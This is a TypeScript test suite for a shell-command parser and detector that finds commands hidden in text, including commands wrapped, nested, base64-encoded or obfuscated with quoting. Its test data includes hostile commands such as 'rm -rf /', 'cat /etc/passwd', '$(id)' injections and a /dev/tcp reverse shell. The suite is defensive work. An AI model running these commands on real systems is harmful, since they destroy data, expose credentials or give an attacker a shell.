import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { createParsers, type ShellParser } from '../src/parsers.ts';
import { SHELL_LIMITS } from '../src/shell-limits.ts';
import { createShellReader, fitsShellGrammar, looksLikeShell, type ShellReader, type ShellReading } from '../src/shell.ts';
import { wasmBytes } from './wasm-bytes.ts';

interface ShellCase {
  readonly text: string;
  readonly lines: readonly string[];
  readonly names?: readonly string[];
  readonly args?: readonly string[];
  readonly wrappers?: readonly string[];
  readonly redirects?: readonly string[];
  readonly piped?: readonly number[];
  readonly via?: readonly string[];
  readonly dynamic?: readonly boolean[];
}

const vectors = JSON.parse(readFileSync(new URL('../../../vectors/facts/shell.json', import.meta.url), 'utf8')) as {
  cases: readonly ShellCase[];
};
const PATH = '/params/command';
let grammar: ShellParser;
let reader: ShellReader;

beforeAll(async () => {
  grammar = (await createParsers(wasmBytes())).shell;
  reader = createShellReader(grammar);
});

function read(text: string): ShellReading {
  return reader.readShell(text, { span: { path: PATH, start: 0, end: text.length }, layers: [] });
}

function lines(text: string): readonly string[] {
  return read(text).commands.map((command) => command.line);
}

describe('vectors', () => {
  test('there are many', () => expect(vectors.cases.length).toBeGreaterThanOrEqual(200));

  test.each(vectors.cases.map((one) => [one.text, one] as const))('%j', (text, one) => {
    const { commands, cut } = read(text);
    const seen = {
      text,
      lines: commands.map((command) => command.line),
      names: one.names && commands.map((command) => command.name),
      args: one.args && commands.at(-1)?.args,
      wrappers: one.wrappers && commands.at(-1)?.wrappers,
      redirects: one.redirects && commands[0]?.redirects.map((redirect) => redirect.operator + redirect.target),
      piped: one.piped && commands.map((command) => command.pipedFrom),
      via: one.via && commands.map((command) => command.via),
      dynamic: one.dynamic && commands.map((command) => command.dynamic),
    };
    expect(seen).toEqual({
      names: undefined,
      args: undefined,
      wrappers: undefined,
      redirects: undefined,
      piped: undefined,
      via: undefined,
      dynamic: undefined,
      ...one,
    });
    expect(cut).toBe(false);
  });
});

describe('spans', () => {
  test('of a command in the text itself', () => {
    const [first, second] = read('ls; rm -rf /').commands;
    expect([first?.span, second?.span]).toEqual([
      { path: PATH, start: 0, end: 2 },
      { path: PATH, start: 4, end: 12 },
    ]);
  });

  test('shift with the leaf', () => {
    const { commands } = reader.readShell('a; b', { span: { path: '/p', start: 10, end: 14 }, layers: [] });
    expect(commands[1]?.span).toEqual({ path: '/p', start: 13, end: 14 });
  });

  test('of decoded text are the whole source', () => {
    const span = { path: '/p', start: 3, end: 40 };
    expect(reader.readShell('a; b', { span, layers: ['base64'] }).commands.map((command) => command.span)).toEqual([span, span]);
  });

  test('of a nested shell are its caller', () => {
    expect(read("sh -c 'a; b'; c").commands.map((command) => [command.span.start, command.span.end])).toEqual([
      [0, 12],
      [0, 12],
      [14, 15],
    ]);
  });
});

describe('properties', () => {
  const alphabet = fc.constantFrom(
    ...'ab rm$(){}[]<>|&;\'"`\\\n#=!*?/-~:,.0'.split(''),
    '<<E\n',
    '${',
    '$((',
    '$(',
    'if ',
    'do ',
    'case x in ',
    'eval ',
    'sh -c ',
    'sudo ',
  );
  const shellish = fc.array(alphabet, { maxLength: 60 }).map((pieces) => pieces.join(''));

  test('total: any text is read, spans lie inside it, pipes point back', () => {
    fc.assert(
      fc.property(fc.oneof(shellish, fc.string({ unit: 'binary', maxLength: 200 })), (text) => {
        const { commands, steps } = read(text);
        expect(steps).toBeLessThanOrEqual(2000 + text.length * 600);
        commands.forEach((command, index) => {
          expect(command.span.start).toBeGreaterThanOrEqual(0);
          expect(command.span.start).toBeLessThanOrEqual(command.span.end);
          expect(command.span.end).toBeLessThanOrEqual(text.length);
          expect(command.pipedFrom).toBeLessThan(index);
          expect(command.name).toBe(command.name.toLowerCase());
        });
      }),
      { numRuns: 600 },
    );
  });

  test('the same text reads the same twice', () => {
    fc.assert(
      fc.property(shellish, (text) => {
        expect(read(text)).toEqual(read(text));
      }),
      { numRuns: 300 },
    );
  });

  const word = fc
    .stringMatching(/^[a-z][a-z0-9._/-]{0,8}$/)
    .filter((text) => !/^(?:if|then|elif|else|fi|for|select|while|until|do|done|case|esac|in|function|coproc)$/.test(text));
  const plain = fc.array(word, { minLength: 1, maxLength: 4 }).map((words) => ['rm', ...words].join(' '));
  const wrapper = fc.constantFrom(
    'sudo',
    'sudo -u bob',
    'env A=1',
    'nohup',
    'nice -n 3',
    'timeout 5',
    'setsid',
    'stdbuf -o0',
    'command',
    'time',
    'doas',
    'ionice -c 3',
    'busybox',
    'strace -f',
  );

  test('wrappers change neither name nor arguments', () => {
    fc.assert(
      fc.property(plain, fc.array(wrapper, { maxLength: 5 }), (text, wrappers) => {
        const [command, ...rest] = read([...wrappers, text].join(' ')).commands;
        expect(rest).toEqual([]);
        expect([command?.name, command?.args.join(' '), command?.wrappers]).toEqual([
          'rm',
          text.slice(3),
          wrappers.map((one) => one.split(' ')[0]),
        ]);
      }),
    );
  });

  test('quoting every word changes nothing', () => {
    const quote = fc.constantFrom(
      (text: string) => `'${text}'`,
      (text: string) => `"${text}"`,
      (text: string) => `\\${text}`,
      (text: string) => `${text.slice(0, 1)}''${text.slice(1)}`,
      (text: string) => `$'${text}'`,
      (text: string) => `$'\\x${(text.codePointAt(0) ?? 0).toString(16)}'${text.slice(1)}`,
    );
    fc.assert(
      fc.property(plain, fc.array(quote, { minLength: 5, maxLength: 5 }), (text, quotes) => {
        const quoted = text.split(' ').map((one, i) => quotes[i]?.(one) ?? one);
        expect(lines(quoted.join(' '))).toEqual([text]);
      }),
    );
  });

  test('a body for another shell reads as if it stood alone', () => {
    fc.assert(
      fc.property(
        plain,
        fc.constantFrom("sh -c '@'", 'bash -c "@"', "eval '@'", "bash <<< '@'", 'sh <<X\n@\nX', "echo '@' | sh", "su -c '@'"),
        (text, frame) => {
          expect(lines(frame.replace('@', () => text))).toContain(text);
        },
      ),
    );
  });

  test('base64 in a pipe to a shell is read', () => {
    fc.assert(
      fc.property(plain, (text) => {
        expect(lines(`echo ${btoa(text)} | base64 -d | sh`)).toContain(text);
      }),
    );
  });

  test('the Bash grammar sees no command that is not read', () => {
    const piece = fc.oneof(
      plain,
      plain.map((text) => `$(${text})`),
      plain.map((text) => `(${text})`),
      plain.map((text) => `if ${text}; then ${text}; fi`),
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 4 }), fc.constantFrom('; ', ' && ', ' | ', '\n', ' || '), (pieces, joiner) => {
        const text = pieces.join(joiner);
        const tree = grammar.parse(text);
        fc.pre(tree.clean);
        const starts = new Set(read(text).commands.map((command) => command.span.start));
        for (const region of tree.commands) expect(starts).toContain(region.start);
      }),
      { numRuns: 200 },
    );
  });
});

describe('linear time, by count', () => {
  const hostile = [
    'a|',
    '<<E\n',
    '((',
    '(',
    '$(',
    '$((',
    '`',
    "'",
    '"',
    '\\',
    '{',
    '{a,',
    '${a',
    '${a:-',
    '<(',
    'a=(',
    'a()',
    '!(',
    'if ',
    'for i in ',
    'case x in ',
    '[[ ',
    'sudo ',
    'eval ',
    '<<A\nb\nA\n',
    "$'",
    '"$(',
    'x=$x$x;',
    'f(){ f;f; };f;',
    ';',
    '#\n',
  ];

  test.each(hostile)('%j', (unit) => {
    for (const size of [65_536, 1_048_576]) {
      const text = unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
      expect(read(text).steps).toBeLessThanOrEqual(Math.min(8_000_000, size * 64));
    }
  });

  test('what is doubled eight times over does not double in cost eight times', () => {
    const grow = (rounds: number): number => read(`a=xxxxxxxxxxxxxxxx;${'a=$a$a;'.repeat(rounds)}`).steps;
    expect(grow(400)).toBeLessThanOrEqual(grow(200) * 3);
  });
});

describe('limits, at n and n + 1', () => {
  test('length of a text read whole', () => {
    const fill = (size: number): string => `${'#'.repeat(size - 6)}\nrm  /`;
    expect(fill(SHELL_LIMITS.textCharsMax)).toHaveLength(SHELL_LIMITS.textCharsMax);
    expect(read(fill(SHELL_LIMITS.textCharsMax)).cut).toBe(false);
    const over = read(fill(SHELL_LIMITS.textCharsMax + 1));
    expect([over.cut, over.commands.at(-1)?.line]).toEqual([true, 'rm /']);
  });

  test('the end of a megabyte is still read, where it stands', () => {
    const text = `echo start\n${'echo filler line\n'.repeat(62_000)}rm -rf /`;
    const { commands, cut } = read(text);
    expect([cut, commands.at(-1)?.line, commands.at(-1)?.span.start, commands[0]?.line]).toEqual([
      true,
      'rm -rf /',
      text.length - 8,
      'echo start',
    ]);
  });

  test('commands of one text', () => {
    expect(read('a;'.repeat(SHELL_LIMITS.commandsMax)).commands).toHaveLength(SHELL_LIMITS.commandsMax);
    const over = read(`${'a;'.repeat(SHELL_LIMITS.commandsMax + 1000)}rm -rf /`);
    expect([over.cut, over.commands.at(-1)?.line]).toEqual([true, 'rm -rf /']);
    expect(over.commands.length).toBeLessThanOrEqual(SHELL_LIMITS.commandsMax + SHELL_LIMITS.tailCommandsMax);
  });

  test('commands the scanner reads', () => {
    const over = read(`${':;'.repeat(SHELL_LIMITS.nodesMax + 1)}rm f`);
    expect([over.cut, over.commands.at(-1)?.line]).toEqual([true, 'rm f']);
  });

  test('syntax depth', () => {
    const nest = (depth: number): string => `echo ${'$('.repeat(depth)}rm${')'.repeat(depth)}`;
    expect(read(nest(8)).commands.map((command) => command.line)).toContain('rm');
    expect(read(nest(8)).cut).toBe(false);
    expect(read(nest(SHELL_LIMITS.syntaxDepthMax)).cut).toBe(true);
  });

  test('shells in shells', () => {
    const nest = (depth: number): string => `${'eval '.repeat(depth)}rm f`;
    expect([read(nest(SHELL_LIMITS.evalDepthMax)).cut, lines(nest(SHELL_LIMITS.evalDepthMax))]).toEqual([false, ['rm f']]);
    expect(read(nest(SHELL_LIMITS.evalDepthMax + 1)).cut).toBe(true);
  });

  test('wrappers', () => {
    const nest = (depth: number): string => `${'nohup '.repeat(depth)}rm f`;
    expect([read(nest(SHELL_LIMITS.wrappersMax)).cut, lines(nest(SHELL_LIMITS.wrappersMax))]).toEqual([false, ['rm f']]);
    expect(read(nest(SHELL_LIMITS.wrappersMax + 1)).cut).toBe(true);
  });

  test('length of all that is read again', () => {
    const again = (size: number): ShellReading => read(`${`eval '${'#'.repeat(4092)}';`.repeat(15)}eval '${'#'.repeat(size)}'`);
    expect(again(100).cut).toBe(false);
    const twice = `x='${'#'.repeat(8192)}';${'eval "$x";'.repeat(16)}`;
    expect(read(twice).cut).toBe(false);
    expect(read(`${twice}eval "$x"`).cut).toBe(true);
  });

  test('words of a brace expansion', () => {
    expect(read(`ls {1..${SHELL_LIMITS.braceWordsMax}}`).commands[0]?.args).toHaveLength(SHELL_LIMITS.braceWordsMax);
    expect(read(`ls {1..${SHELL_LIMITS.braceWordsMax + 1}}`).commands[0]).toMatchObject({
      dynamic: true,
      args: [`{1..${SHELL_LIMITS.braceWordsMax + 1}}`],
    });
  });

  test('length of a folded word', () => {
    const make = (size: number): ShellReading => read(`x=${'y'.repeat(size - 1)}; echo "z$x"`);
    expect(make(SHELL_LIMITS.wordCharsMax).commands[0]).toMatchObject({ dynamic: false });
    expect(make(SHELL_LIMITS.wordCharsMax + 1).commands[0]).toMatchObject({ dynamic: true });
  });

  test('arithmetic beyond its length is read as nested subshells', () => {
    const make = (size: number): readonly string[] => lines(`echo $((${'1+'.repeat(size / 2)}1)); rm f`);
    expect(make(SHELL_LIMITS.arithmeticCharsMax - 2)).toHaveLength(2);
    expect(make(SHELL_LIMITS.arithmeticCharsMax + 2)).toHaveLength(3);
  });

  test('what the grammar may see', () => {
    expect(fitsShellGrammar('|'.repeat(SHELL_LIMITS.grammarDenseCharsMax))).toBe(true);
    expect(fitsShellGrammar('|'.repeat(SHELL_LIMITS.grammarDenseCharsMax + 1))).toBe(false);
    expect(fitsShellGrammar('a'.repeat(SHELL_LIMITS.grammarCharsMax))).toBe(true);
    expect(fitsShellGrammar('a'.repeat(SHELL_LIMITS.grammarCharsMax + 1))).toBe(false);
    const sparse = (operators: number): string => 'a'.repeat(SHELL_LIMITS.grammarDenseCharsMax) + ';'.repeat(operators);
    expect([
      fitsShellGrammar(sparse(SHELL_LIMITS.grammarOperatorsMax)),
      fitsShellGrammar(sparse(SHELL_LIMITS.grammarOperatorsMax + 1)),
    ]).toEqual([true, false]);
  });
});

describe('second opinion', () => {
  test('is asked only in doubt, and only adds', () => {
    let asked = 0;
    const counting: ShellParser = {
      parse: (text) => {
        asked += 1;
        return {
          clean: true,
          nodes: 1,
          commands: [
            { start: 0, end: 2 },
            { start: text.length - 4, end: text.length },
          ],
        };
      },
    };
    const doubtful = createShellReader(counting);
    const source = (text: string): Parameters<ShellReader['readShell']> => [
      text,
      { span: { path: PATH, start: 0, end: text.length }, layers: [] },
    ];
    doubtful.readShell(...source('ls; rm f'));
    expect(asked).toBe(0);
    const { commands } = doubtful.readShell(...source("ls 'a rm f"));
    expect([asked, commands.map((command) => [command.line, command.span.start])]).toEqual([
      1,
      [
        ['ls a rm f', 0],
        ['rm f', 6],
      ],
    ]);
  });
});

describe('looksLikeShell', () => {
  const yes = [
    'ls -la',
    'rm -rf /',
    '; id',
    '| whoami',
    '&& cat /etc/passwd',
    '$(id)',
    'a `id`',
    'curl http://example.test/x',
    'x; cat /etc/hosts',
    'sudo reboot',
    '/bin/sh -i',
    'bash -i >& /dev/tcp/192.0.2.1/4444',
    'echo $PATH; ls',
    'git status',
    'name;ls',
    "w'h'oami",
    'find . -name x',
    'cat /etc/passwd',
    './run.sh --now',
    'a\nrm -f b',
  ];
  const no = [
    '',
    ' ',
    'hello world',
    'find the best restaurant',
    'cat pictures are nice',
    'make a list of things',
    'time flies',
    'Tom & Jerry',
    'a; b',
    '1 < 2',
    'bob@example.test',
    'who is it?',
    'R&D; sales',
    'set the table',
    'please sort these names',
    'look, a dog',
    'top 10 films',
    'C# | F#',
    'it costs $5',
    'more or less',
  ];
  test.each(yes)('yes: %j', (text) => expect(looksLikeShell(text)).toBe(true));
  test.each(no)('no: %j', (text) => expect(looksLikeShell(text)).toBe(false));
  test('total', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => typeof looksLikeShell(text) === 'boolean'));
  });
});
